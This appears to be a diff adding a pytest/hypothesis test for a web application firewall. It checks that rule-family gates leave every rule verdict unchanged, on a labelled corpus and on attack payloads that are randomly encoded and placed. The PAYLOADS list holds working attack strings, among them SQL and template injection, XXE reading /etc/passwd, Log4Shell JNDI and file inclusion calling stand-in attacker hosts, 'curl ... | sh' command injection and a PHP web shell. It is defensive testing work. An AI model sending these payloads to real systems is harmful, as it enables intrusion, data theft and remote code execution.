@@ -1,0 +1,159 @@
+"""The gates of hostguard's rule families (data/waf/rules/REQUEST-19900-REQUEST-TEXT.conf) and of the twins
+for documents skip rules only when those rules cannot match: every request gets the same verdict, rule by
+rule, with the gates as without them. Checked on the whole labelled corpus (every placement and encoding it
+has) and on attacks encoded and placed at random (hypothesis)."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from hostguard.waf.engine import Engine, Request
+from hostguard.waf.narrowing import DOCUMENTS_END, DOCUMENTS_FLAG, DOCUMENTS_GATE
+from hostguard.waf.ruleset import WafSettings, assemble
+from tests.waf.corpus import load_cases, wire_headers
+from tests.waf.test_engine import _need_library
+
+FAMILY_GATE = re.compile(r'SecRule TX:hostguard_request_text "!@rx [^\n]*\\\n\s*"id:\d+,[^"\n]*skipAfter:[^"\n]*"\n')
+INCLUDE = re.compile(r'^Include "([^"]*/data/waf/rules/[^"]*)"$', re.M)
+
+
+def inlined(text: str) -> str:
+    """``text`` with hostguard's rule files written in place of their Include lines."""
+    return INCLUDE.sub(lambda m: Path(m.group(1)).read_text(encoding="utf-8"), text)
+
+
+def without_gates(text: str) -> str:
+    """``text`` (what :func:`assemble` wrote) with every gate taken out: hostguard's rule files inlined without
+    their family gates, and the twins for documents without theirs (their markers stay, unused)."""
+    text = INCLUDE.sub(lambda m: FAMILY_GATE.sub("", Path(m.group(1)).read_text(encoding="utf-8")), text)
+    return "\n".join(line for line in text.split("\n")
+                     if not any(f"id:{i}," in line for i in (DOCUMENTS_FLAG, DOCUMENTS_GATE, DOCUMENTS_GATE + 1)))
+
+
+@pytest.fixture(scope="module")
+def pair() -> Iterator[tuple[Engine, Engine]]:
+    _need_library()
+    text = assemble(WafSettings())
+    bare = without_gates(text)
+    with Engine(text=text) as gated, Engine(text=bare) as ungated:
+        yield gated, ungated
+
+
+def test_the_gates_are_there_and_taken_out() -> None:
+    text = assemble(WafSettings())
+    bare = without_gates(text)
+    assert len(FAMILY_GATE.findall(inlined(text))) >= 8 and not FAMILY_GATE.findall(bare)
+    assert DOCUMENTS_END in text and f"id:{DOCUMENTS_GATE}," in text and f"id:{DOCUMENTS_GATE}," not in bare
+
+
+def test_a_gate_skips_its_family_on_an_ordinary_request() -> None:
+    """Not a gate that always passes: on a plain request the family's rules are skipped (a rule that counts
+    the rules evaluated cannot be written, so a family rule changed to match anything stands in for it)."""
+    probe = 'SecRule ARGS "@rx ." "id:20190,phase:2,pass,log,msg:\'reached\',tag:\'probe\'"\n'
+    marker = "SecMarker END-HOSTGUARD-NOSQL"
+    text = inlined(assemble(WafSettings())).replace(marker, probe + marker)
+    _need_library()
+    with Engine(text=text) as engine:
+        plain = engine.inspect(Request("GET", "/products?category=tea&page=2", [("Host", "shop.example.test")]))
+        dollar = engine.inspect(Request("GET", "/products?category=tea&price=$5", [("Host", "shop.example.test")]))
+        double = engine.inspect(Request("GET", "/products?category=%2524tea", [("Host", "shop.example.test")]))
+    assert 20190 not in plain.rule_ids
+    assert 20190 in dollar.rule_ids and 20190 in double.rule_ids
+
+
+def _corpus_requests() -> list[tuple[str, Request]]:
+    out = []
+    for case in load_cases():
+        body = case.body_bytes() or b""
+        headers = [(n, v) for n, v in wire_headers(case, "shop.example.test")
+                   if n.lower() not in ("transfer-encoding", "connection")]
+        if body and not any(n.lower() == "content-length" for n, _ in headers):
+            headers.append(("Content-Length", str(len(body))))
+        out.append((case.id, Request(case.method, case.target, headers, body)))
+    return out
+
+
+def test_every_corpus_request_matches_the_same_rules_with_and_without_the_gates(pair: tuple[Engine, Engine]) -> None:
+    gated, ungated = pair
+    differ = []
+    for case_id, request in _corpus_requests():
+        a, b = sorted(gated.inspect(request).rule_ids), sorted(ungated.inspect(request).rule_ids)
+        if a != b:
+            differ.append((case_id, a, b))
+    assert not differ, differ[:5]
+
+
+# Attacks each gated family's rules find, encoded and placed at random below.
+PAYLOADS = [
+    '{"$ne": null}', "admin'; return true; var x='", "this.password.match(/^a/)",
+    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${T(java.lang.Runtime).getRuntime()}",
+    "<%= system('id') %>", "#set($x=1)#foreach($i in [1..2])$x#end", "{{7*7}}", "[#assign ex='freemarker']",
+    "1 union select null,password from users--", "1 and sleep(5)", "x' -- ", "1;waitfor delay '0:0:5'",
+    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', "http://169.254.169.254/latest/meta-data/",
+    "gopher://127.0.0.1:6379/_INFO", '{"__proto__": {"admin": true}}', "constructor[prototype][admin]=1",
+    "${jndi:ldap://attacker.example/a}", "${${lower:j}ndi:dns://x}", "http://evil.example/shell.txt?",
+    "//evil.example/x.php", "/???/??t /???/p??s??", "; cat /etc/passwd", "| whoami", "&& curl http://x/s|sh",
+    "`id`", "$(sleep 5)", "& type C:\\windows\\win.ini", "| powershell -enc AAAA", "& net user hacker x /add",
+    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", "class.module.classLoader.resources.context",
+    "#context['xwork.MethodAccessor.denyMethodExecution']=false", '{"@type": "com.sun.rowset.JdbcRowSetImpl"}',
+    "<?php system($_GET['c']); ?>", "eval(base64_decode('ZWNobyAx'))", "GET /admin HTTP/1.1\r\nHost: x\r\n",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<object class=\"java.lang.ProcessBuilder\">",
+    "ext::sh -c touch% /tmp/pwned", "<xsl:stylesheet><xsl:value-of select=\"system-property('xsl:vendor')\"/>",
+]
+
+
+def _encode(text: str, plan: list[int], space_plus: bool) -> str:
+    """``text`` percent-encoded character by character as ``plan`` says: 0 as is (URL-safe), 1 once, 2 twice."""
+    out = []
+    for i, ch in enumerate(text):
+        how = plan[i % len(plan)] if plan else 1
+        if ch == " " and space_plus and how == 0:
+            out.append("+")
+        elif how == 0 and (ch.isalnum() or ch in "-._~"):
+            out.append(ch)
+        elif how == 2:
+            out.append("".join(f"%25{b:02X}" for b in ch.encode()))
+        else:
+            out.append(quote(ch, safe=""))
+    return "".join(out)
+
+
+def _place(payload: str, where: str, plan: list[int]) -> Request:
+    headers = [("Host", "shop.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]
+    if where == "query":
+        return Request("GET", f"/search?q={_encode(payload, plan, True)}&page=2", headers)
+    if where == "path":
+        return Request("GET", f"/files/{_encode(payload, plan, False)}", headers)
+    if where == "form":
+        body = f"name=ann&comment={_encode(payload, plan, True)}".encode()
+        return Request("POST", "/contact", [*headers, ("Content-Type", "application/x-www-form-urlencoded"),
+                                            ("Content-Length", str(len(body)))], body)
+    if where == "json":
+        escaped = json.dumps(payload, ensure_ascii=True)
+        if plan and plan[0] == 2:   # characters as \u escapes
+            escaped = '"' + "".join(f"\\u{ord(c):04x}" if i % 3 == 0 else c for i, c in enumerate(payload)
+                                    if c not in '"\\') + '"'
+        body = f'{{"filter": {escaped}, "page": 2}}'.encode()
+        return Request("POST", "/api/items", [*headers, ("Content-Type", "application/json"),
+                                              ("Content-Length", str(len(body)))], body)
+    if where == "cookie":
+        return Request("GET", "/", [*headers, ("Cookie", f"session=abc; pref={_encode(payload, plan, False)}")])
+    return Request("GET", "/", [*headers, ("X-Forwarded-Host", _encode(payload, plan, False))])
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(payload=st.sampled_from(PAYLOADS), where=st.sampled_from(["query", "path", "form", "json", "cookie", "header"]),
+       plan=st.lists(st.integers(0, 2), max_size=6))
+def test_encoded_attacks_match_the_same_rules_with_and_without_the_gates(pair: tuple[Engine, Engine], payload: str,
+                                                                         where: str, plan: list[int]) -> None:
+    gated, ungated = pair
+    request = _place(payload, where, plan)
+    assert sorted(gated.inspect(request).rule_ids) == sorted(ungated.inspect(request).rule_ids)
